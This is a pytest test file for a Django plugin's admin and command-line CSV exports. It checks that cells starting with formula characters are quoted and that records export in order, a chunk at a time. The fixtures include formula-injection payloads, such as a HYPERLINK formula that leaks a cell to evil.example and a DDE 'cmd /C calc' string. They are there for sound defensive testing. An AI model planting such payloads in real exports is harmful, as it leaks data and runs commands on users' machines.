"""The CSV exports (admin action and command): every cell safe to open in a spreadsheet."""
import csv
import datetime
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from tahoe_registration_plugin import exports
from tahoe_registration_plugin.exports import spreadsheet_safe
from tahoe_registration_plugin.models import RegistrationRecord
from tests.factories import ApiKeyFactory, UserFactory

RECORDS = "/admin/tahoe_registration_plugin/registrationrecord/"
KEY_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
USERNAME = "-A1+cmd"
EMAIL = "+cmd|' /C calc'!A0@example.com"


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("alex", "alex"),
    ("a=b@example.com", "a=b@example.com"),
    ("", ""),
    (42, "42"),
])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_before_it(value, cell):
    assert spreadsheet_safe(value) == cell


def test_both_exports_write_formulas_as_text(admin_client, site):
    api_key = ApiKeyFactory(site=site, name=KEY_NAME)
    user = UserFactory(username=USERNAME, email=EMAIL)
    record = RegistrationRecord.objects.create(site=site, user=user, api_key=api_key, api_version="v2")

    response = admin_client.post(RECORDS, {"action": "export_csv", "_selected_action": [record.pk]})
    out = io.StringIO()
    call_command("tahoe_export_registration_records", stdout=out)

    for text in (b"".join(response.streaming_content).decode(), out.getvalue()):
        _header, row = list(csv.reader(io.StringIO(text)))
        assert row[3:7] == [f"'{USERNAME}", f"'{EMAIL}", api_key.prefix, f"'{KEY_NAME}"]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert get_user_model().objects.get(pk=user.pk).email == EMAIL  # only the export is changed


def test_the_exports_read_every_record_once_in_order_a_chunk_at_a_time(admin_client, site, other_site, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 3)
    at = timezone.now()
    # Chunks end in the middle of records created at the same moment.
    moments = [at] * 7 + [at + datetime.timedelta(seconds=1)] * 2 + [at - datetime.timedelta(seconds=1)] * 4
    ours = [RegistrationRecord.objects.create(site=site, user=UserFactory(), api_version="v2", created=moment)
            for moment in moments]
    RegistrationRecord.objects.create(site=other_site, user=UserFactory(), api_version="v2", created=at)
    expected = [str(record.user_id) for record in sorted(ours, key=lambda record: (record.created, record.pk))]

    out = io.StringIO()
    with CaptureQueriesContext(connection) as queries:
        call_command("tahoe_export_registration_records", "--site", site.domain, stdout=out)
    query_count = len(queries)  # before a request empties the log
    chosen = admin_client.post(RECORDS, {"action": "export_csv", "_selected_action": [r.pk for r in ours[2:]]})

    assert [row[2] for row in list(csv.reader(io.StringIO(out.getvalue())))[1:]] == expected
    assert query_count == 2 + len(ours) // 3  # the site, then one query per chunk
    downloaded = list(csv.reader(io.StringIO(b"".join(chosen.streaming_content).decode())))[1:]
    assert [row[2] for row in downloaded] == [user_id for user_id in expected if user_id not in {
        str(ours[0].user_id), str(ours[1].user_id)}]
